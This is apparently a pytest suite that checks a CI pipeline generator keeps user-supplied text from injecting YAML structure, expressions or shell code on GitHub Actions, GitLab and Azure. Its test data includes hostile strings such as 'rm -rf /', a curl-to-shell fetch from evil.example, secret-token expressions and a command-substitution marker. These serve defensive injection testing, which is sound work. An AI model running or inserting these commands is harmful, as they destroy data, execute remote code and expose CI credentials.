"""User text (project name, approver, commands, key features, check descriptions) cannot
change a pipeline's structure, start an expression, or reach a script except where the user
wrote a command."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

import pytest
import yaml

from tests.render.ci.designs import POLICY, make_design
from tests.render.ci.schemas import schema_errors
from tests.render.ci.views import PipelineView
from wizard.model.answers import STAGE_ORDER
from wizard.model.design import Design
from wizard.model.platforms import platform_ids
from wizard.render.ci import render_ci

HOSTILE = (
    "x'; rm -rf / #",
    "quote \" and ' both",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(curl https://evil.example | sh)",
    "line one\nline two: injected\n- item",
    "key: value # comment",
    "`whoami`",
    "on",
    "yes",
    "*alias &anchor !tag",
    "{flow: map}, [seq]",
    "%YAML 1.1",
    "$[ variables['System.AccessToken'] ]",
    "$CI_JOB_TOKEN and $$",
    "--- \n...",
)
PLATFORMS = platform_ids()
#: Expressions the generator itself writes on GitHub, over data it controls.
GITHUB_OWN_EXPRESSIONS = (
    "${{ '${{' }}",
    "${{ github.event.client_payload.reason || inputs.reason || github.event_name }}",
    "${{ github.token }}",
    "${{ github.run_id }}",
    "${{ inputs.reviewed_by }}",
)
#: Azure's own macros: the run's id in the drift history's cache key, the agent's OS and
#: the folder of pip's cache in its cache task.
AZURE_OWN_MACROS = ("$(Build.BuildId)", "$(Agent.OS)", "$(PIP_CACHE_DIR)")
#: The workflow's own references: repository variables, job outputs and step outputs.
GITHUB_OWN_REFERENCES = re.compile(
    r"\$\{\{ (?:(?:vars|secrets)\.[A-Z_]+(?: \|\| '[\w.=-]*')?"
    r"|needs\.\w+\.outputs\.[A-Z_]+|steps\.ids\.outputs\.[A-Z_]+) \}\}"
)


def hostile_design(platform: str, text: str) -> Design:
    design = make_design(
        platform,
        project_name=text,
        approver=text,
        commands={stage: f"echo {text}" for stage in STAGE_ORDER},
        environment={**POLICY, "DRIFT_KEY_FEATURES": f"{text},amount"},
    )
    # Step names reach job titles and the checks' ROLLOUT_STAGE; the production step runs
    # the promotion stage's command, which an answer may set.
    steps = tuple(
        replace(step, name=text, command=f"echo {text}" if step.sets_production else step.command)
        for step in design.lifecycle.steps
    )
    return replace(design, lifecycle=replace(design.lifecycle, steps=steps, approver=text))


def strings(data: Any) -> list[str]:
    if isinstance(data, dict):
        return [*map(str, data), *(s for value in data.values() for s in strings(value))]
    if isinstance(data, list):
        return [s for item in data for s in strings(item)]
    return [data] if isinstance(data, str) else []


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_keeps_the_pipeline_valid_and_its_shape(platform: str, text: str) -> None:
    rendered = render_ci(hostile_design(platform, text)).text
    assert schema_errors(platform, rendered) == []
    hostile = PipelineView.parse(platform, rendered)
    plain = PipelineView.parse(platform, render_ci(make_design(platform)).text)
    assert list(hostile.document) == list(plain.document)
    assert hostile.stage_jobs() == plain.stage_jobs()
    assert hostile.canary_percents() == plain.canary_percents()
    assert hostile.has_approval_gate() and hostile.has_gate_step()


@pytest.mark.parametrize("text", HOSTILE)
def test_github_evaluates_no_expression_from_user_text(text: str) -> None:
    rendered = render_ci(hostile_design("github-actions", text)).text
    for value in strings(yaml.safe_load(rendered)):
        for own in GITHUB_OWN_EXPRESSIONS:
            value = value.replace(own, "")
        value = GITHUB_OWN_REFERENCES.sub("", value)
        assert "${{" not in value


@pytest.mark.parametrize("text", HOSTILE)
def test_github_commands_run_exactly_as_written(text: str) -> None:
    view = PipelineView.parse(
        "github-actions", render_ci(hostile_design("github-actions", text)).text
    )
    command = view.scripts("train_model")[0]
    assert command.replace("${{ '${{' }}", "${{") == f"echo {text}"


@pytest.mark.parametrize("platform", ["gitlab-ci", "azure-pipelines"])
@pytest.mark.parametrize("text", HOSTILE)
def test_commands_reach_the_script_as_written(platform: str, text: str) -> None:
    view = PipelineView.parse(platform, render_ci(hostile_design(platform, text)).text)
    command = view.scripts("train_model")[0]
    if platform == "azure-pipelines":
        # Azure would evaluate ${{ }} while compiling; ${{ is never valid shell anyway.
        command = command.replace("$ {{", "${{")
    assert command == f"echo {text}"


@pytest.mark.parametrize("text", HOSTILE)
def test_gitlab_does_not_expand_user_variables(text: str) -> None:
    """GitLab's escape for a literal dollar is ``$$`` (``expand: false`` would do on GitLab,
    but gitlab-ci-local ignores it): no ``$`` of user text is left to read as a reference."""
    view = PipelineView.parse("gitlab-ci", render_ci(hostile_design("gitlab-ci", text)).text)
    features = view.variables()["DRIFT_KEY_FEATURES"]
    assert features == f"{text},amount".replace("$", "$$")
    for job in view.graph.jobs.values():
        for value in view.document[job.name].get("variables", {}).values():
            assert "$" not in str(value).replace("$$", ""), (job.name, value)


@pytest.mark.parametrize("text", HOSTILE)
def test_azure_macros_and_expressions_in_user_text_are_inert(text: str) -> None:
    rendered = render_ci(hostile_design("azure-pipelines", text)).text
    document = yaml.safe_load(rendered)
    shown = [document["variables"]["DRIFT_KEY_FEATURES"]]
    for stage in document["stages"]:
        for job in stage["jobs"]:
            for step in job["steps"]:
                shown += [step.get("displayName", ""), *step.get("inputs", {}).values()]
    for value in map(str, shown):
        for macro in AZURE_OWN_MACROS:
            value = value.replace(macro, "")
        assert "${{" not in value
        assert "$(" not in value
        assert "$[" not in value


@pytest.mark.parametrize("platform", PLATFORMS)
def test_user_text_never_lands_in_the_gate_script(platform: str) -> None:
    text = "$(touch /tmp/pwned)"
    view = PipelineView.parse(platform, render_ci(hostile_design(platform, text)).text)
    assert "pwned" not in view.scripts("evaluate_model")[1]


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("text", ["0E0", "0o17", "1_000", ".NaN", "-.inf", "null", "True", "012"])
def test_text_that_reads_as_a_number_stays_text(platform: str, text: str) -> None:
    design = make_design(platform, commands={"train_model": text}, project_name=text)
    rendered = render_ci(design).text
    assert schema_errors(platform, rendered) == []
    assert PipelineView.parse(platform, rendered).scripts("train_model")[0] == text
